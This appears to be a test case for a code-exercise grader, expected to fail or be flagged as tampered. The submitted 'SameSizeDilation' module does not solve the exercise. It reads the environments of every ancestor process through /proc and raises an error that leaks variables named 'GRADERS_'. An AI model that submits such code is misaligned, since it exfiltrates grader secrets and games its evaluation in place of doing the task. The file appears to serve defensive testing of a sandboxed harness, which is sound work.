# exercise: 3.1
# verdict: fail or crash or tampered
# needs: sandbox
# The environment of every process above is read, and shown in an error's message.
# %% exercise
import os

found, pid = "", os.getppid()
while pid > 1:
    try:
        found += open(f"/proc/{pid}/environ").read()
        pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
    except OSError:
        break


class SameSizeDilation(nn.Module):
    def forward(self, x):
        raise ValueError("".join(part for part in found.split("\0") if part.startswith("GRADERS_")))
